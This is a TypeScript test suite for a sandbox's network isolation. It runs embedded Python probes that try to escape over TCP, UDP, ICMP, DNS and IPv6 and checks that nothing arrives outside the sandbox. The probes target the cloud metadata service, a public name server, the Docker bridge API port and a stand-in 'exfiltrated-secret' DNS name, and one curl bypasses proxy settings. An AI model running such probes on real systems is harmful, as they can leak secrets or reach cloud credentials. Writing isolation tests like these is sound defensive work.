import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { describe, expect, test } from 'vitest';
import { npmOfThisHost } from '../../src/sandbox/npm-of-this-host.ts';
import type { EgressAttempt, EgressRule } from '../../src/sandbox/sandbox.ts';
import { dockerSandboxesForTests } from '../support/docker-sandboxes.ts';
import { falseInternet } from '../support/false-internet.ts';
import { oneSandbox } from '../support/one-sandbox.ts';
import { runtimesUnderTest } from '../support/runtimes-under-test.ts';
import { runUnprotected, type Unprotected } from '../support/unprotected-container.ts';

const never = new AbortController().signal;
const minute = { timeoutMs: 60_000 };

const elsewhere: EgressRule = {
  host: 'elsewhere.invalid',
  port: 443,
  scheme: 'https',
  pathPrefix: '/',
  addresses: 'public',
};

/** Every way out that an attack would try, and what each says where it arrives. */
const ways = [
  ['N3: TCP', `tcp('198.51.100.7', [22, 53, 80, 443, 853])`, 'tcp 198.51.100.7 443'],
  ['N3: UDP', `udp('198.51.100.7', [53, 443, 9999])`, 'udp 9999'],
  ['N3: ICMP', `ping('198.51.100.7')`, 'icmp'],
  ['N4: the metadata service of clouds', `tcp('169.254.169.254', [80])`, 'tcp 169.254.169.254 80'],
  ['N5: a name server', `udp('8.8.8.8', [53]); tcp('8.8.8.8', [53, 853, 443])`, 'tcp 8.8.8.8 853'],
  [
    'N5: the resolver of the system',
    `resolve('exfiltrated-secret.example')`,
    Buffer.from('exfiltrated-secret').toString('hex'),
  ],
  [
    'N8: private addresses, and those of bridges',
    `tcp('10.0.0.1', [80]); tcp('172.17.0.1', [2375])`,
    'tcp 172.17.0.1 2375',
  ],
] as const;

const waysBySix = [
  ['N4: the metadata service by IPv6', `tcp('fd00:ec2::254', [80])`, 'tcp fd00:ec2::254 80'],
  [
    'N6: IPv6, link-local and mapped',
    `tcp('2001:db8::7', [443]); tcp('fe80::7%lo', [80]); tcp('::ffff:198.51.100.7', [22])`,
    'tcp 2001:db8::7 443',
  ],
] as const;

const program = (attempts: string) => `python3 - <<'END'
import socket, struct
def quietly(attempt):
    try:
        attempt()
    except OSError:
        pass
def family(host):
    return socket.AF_INET6 if ':' in host else socket.AF_INET
def tcp(host, ports):
    for port in ports:
        quietly(lambda: socket.create_connection((host, port), 2).close())
def udp(host, ports):
    for port in ports:
        quietly(lambda: socket.socket(family(host), socket.SOCK_DGRAM).sendto(b'attack', (host, port)))
def ping(host):
    echo = struct.pack('!BBHHH', 8, 0, 0xf7ff, 0, 0)
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        quietly(lambda: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(echo, (host, 0)))
def resolve(name):
    socket.setdefaulttimeout(3)
    quietly(lambda: socket.getaddrinfo(name, 80))
${attempts}
END`;

for (const { title, isolation, runtime } of await runtimesUnderTest()) {
  describe.skipIf(runtime === null)(title, () => {
    const shared = oneSandbox({ isolation });
    const control = (attack: string, different: Partial<Unprotected> = {}) =>
      runUnprotected({ docker: shared.sandboxes.docker, image: shared.sandboxes.spec().image, ...different }, attack);

    test('N1, N2: there is no network card, and no address of this host can be reached by TCP or UDP', async () => {
      const visitors: string[] = [];
      await using listener = await hostListener(visitors);
      const attempts = listener.addresses.map(
        (host) => `tcp('${host}', [${listener.port}]); udp('${host}', [${listener.port}])`,
      );
      const attack = program(attempts.join('\n'));

      const cards = await shared.sandbox.exec(
        `ls /sys/class/net | grep -vE '^(bonding_masters|sit0|tunl0|ip6tnl0)$'`,
        minute,
      );
      await shared.sandbox.exec(attack, minute);
      expect(visitors).toEqual([]);
      await control(attack, { hostConfig: { NetworkMode: 'host' } });

      expect(cards.stdout).toBe(isolation === 'container' ? 'lo\n' : '');
      await expect.poll(() => new Set(visitors).size).toBe(2 * listener.addresses.length);
    });

    test('N3–N6, N8: nothing arrives anywhere in the world, at a name server, a metadata service or a bridge', async () => {
      const { docker } = shared.sandboxes;
      await using internet = await falseInternet(docker, shared.sandboxes.spec().image);
      const attack = program([...ways, ...waysBySix].map(([, attempt]) => attempt).join('\n'));

      const attacked = await shared.sandbox.exec(attack, minute);
      expect(attacked).toMatchObject({ ok: true, stderr: '' });
      expect(await internet.visitors()).toEqual([]);
      await control(attack, { hostConfig: { NetworkMode: internet.networkMode } });

      const arrived = (await internet.visitors()).join('\n');
      for (const [way, , trace] of ways) expect(arrived, way).toContain(trace);
      if (!arrived.includes(':')) return;
      for (const [way, , trace] of waysBySix) expect(arrived, way).toContain(trace);
    });

    test('N5: a name is not found at once, and nobody is asked', async () => {
      const result = await shared.sandbox.exec(
        'timeout 5 getent hosts exfiltrated-secret.example; cat /etc/resolv.conf',
        minute,
      );

      expect(result.stdout).toBe('nameserver 127.0.0.1\n');
    });

    test('N8: what one box listens on, no other reaches, not even by a name in the kernel', async () => {
      const listening = `python3 -c "
import socket, time
a = socket.socket(socket.AF_UNIX); a.bind('\\0sandpiper-neighbour'); a.listen()
b = socket.create_server(('0.0.0.0', 8080)); print('listening', flush=True); time.sleep(60)"`;
      const knock = program(`
import os
def unix():
    socket.socket(socket.AF_UNIX).connect('\\0sandpiper-neighbour')
    print('unix')
quietly(unix)
def inet():
    socket.create_connection(('127.0.0.1', 8080), 2)
    print('tcp')
quietly(inet)`);
      const neighbour = await shared.sandboxes.create({ isolation });
      const server = await neighbour.spawn(['bash', '-c', listening], minute);
      await server.stdout.getReader().read();

      const itself = await neighbour.exec(knock, minute);
      const other = await shared.sandbox.exec(knock, minute);
      await neighbour.destroy();

      expect(itself.stdout).toBe('unix\ntcp\n');
      expect(other.stdout).toBe('');
    });

    test('N9: no route, no address and no card can be made', async () => {
      const attack = `python3 - <<'END'
import fcntl, socket, struct
control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def ask(name, request, argument):
    try:
        fcntl.ioctl(control, request, argument)
        print(name)
    except OSError:
        pass
address = socket.inet_aton('198.51.100.9')
ask('address', 0x8916, struct.pack('16sH2s4s8s', b'lo:9', socket.AF_INET, b'', address, b''))
anywhere = struct.pack('HH4s8s', socket.AF_INET, 0, bytes(4), b'')
route = struct.pack('L16s16s16sHhLPhPLLH', 0, anywhere, struct.pack('HH4s8s', socket.AF_INET, 0, socket.inet_aton('127.0.0.1'), b''), anywhere, 3, 0, 0, 0, 0, 0, 0, 0, 0)
ask('route', 0x890b, route)
END
(echo 1 > /proc/sys/net/ipv4/ip_forward) 2> /dev/null && echo forwarding; unshare -Un true 2> /dev/null && echo namespace; true`;

      const inside = await shared.sandbox.exec(attack, minute);
      const outside = await control(attack, { hostConfig: { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] } });

      // A namespace of gVisor's own kernel leads nowhere: what is made in it is not in the box's network.
      expect(inside.stdout.replace('namespace\n', isolation === 'syscall' ? '' : 'namespace\n')).toBe('');
      expect(outside).toContain('address\n');
      expect(outside).toContain('namespace\n');
    });

    test('N15: without the proxy there is no way, whatever the environment says', async () => {
      const attempts: EgressAttempt[] = [];
      const network = {
        kind: 'egress',
        allow: [elsewhere],
        onAttempt: (attempt: EgressAttempt) => attempts.push(attempt),
      } as const;
      await using box = await shared.sandboxes.create({ isolation, network });
      await using internet = await falseInternet(shared.sandboxes.docker, shared.sandboxes.spec().image);
      const direct = `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy NO_PROXY='*' no_proxy='*' curl --silent --max-time 3 http://198.51.100.7/; echo $?`;

      const around = await box.exec(direct, minute);
      expect(attempts).toEqual([]);
      const through = await box.exec('curl --silent --max-time 3 http://198.51.100.7/', minute);
      expect(await internet.visitors()).toEqual([]);
      await control(direct, { hostConfig: { NetworkMode: internet.networkMode } });

      expect(around.stdout).toBe('7\n');
      expect(through.stdout).toContain('egress proxy refused this');
      expect(attempts).toMatchObject([{ host: '198.51.100.7', decision: 'denied' }]);
      expect(await internet.visitors()).toContain('tcp 198.51.100.7 80');
    });

    test('N17: npm installs a real package through the one way there is, and all of it is written down', async () => {
      const attempts: EgressAttempt[] = [];
      const { rule, env, caPem } = await npmOfThisHost(never);
      await using sandboxes = await dockerSandboxesForTests({ upstreamCaPem: caPem });
      await using box = await sandboxes.create({
        isolation,
        env,
        limits: { cpus: 2, memoryMiB: 1024, pids: 256, workspaceMiB: 128, workspaceInodes: 20_000 },
        network: { kind: 'egress', allow: [rule], onAttempt: (attempt) => attempts.push(attempt) },
      });
      await box.files.write('package.json', JSON.stringify({ dependencies: { 'is-number': '7.0.0' } }));

      const locked = await box.exec('npm install --package-lock-only && npm ci', minute);
      const used = await box.exec(`node -p "require('is-number')(7)"`, minute);

      expect(locked).toMatchObject({ ok: true });
      expect(used.stdout).toBe('true\n');
      expect(attempts.filter(({ decision }) => decision === 'denied')).toEqual([]);
      expect(attempts).toContainEqual(
        expect.objectContaining({ path: expect.stringMatching(/is-number-7\.0\.0\.tgz$/), status: 200 }),
      );
    });
  });
}

/** A port on every address of this host, and who came to it. */
async function hostListener(visitors: string[]) {
  const server = createServer((socket) => {
    visitors.push(`tcp ${socket.localAddress}`);
    socket.destroy();
  });
  server.listen(0, '0.0.0.0');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const cards = Object.values(networkInterfaces()).flatMap((card) => card ?? []);
  const addresses = cards.filter(({ family }) => family === 'IPv4').map(({ address: host }) => host);
  const listeners = await Promise.all(addresses.map((host) => datagrams(host, port, visitors)));
  return {
    addresses,
    port,
    async [Symbol.asyncDispose]() {
      server.close();
      for (const listener of listeners) listener.close();
    },
  };
}

async function datagrams(host: string, port: number, visitors: string[]) {
  const socket = createSocket('udp4', () => visitors.push(`udp ${host}`));
  socket.bind(port, host);
  await once(socket, 'listening');
  return socket;
}
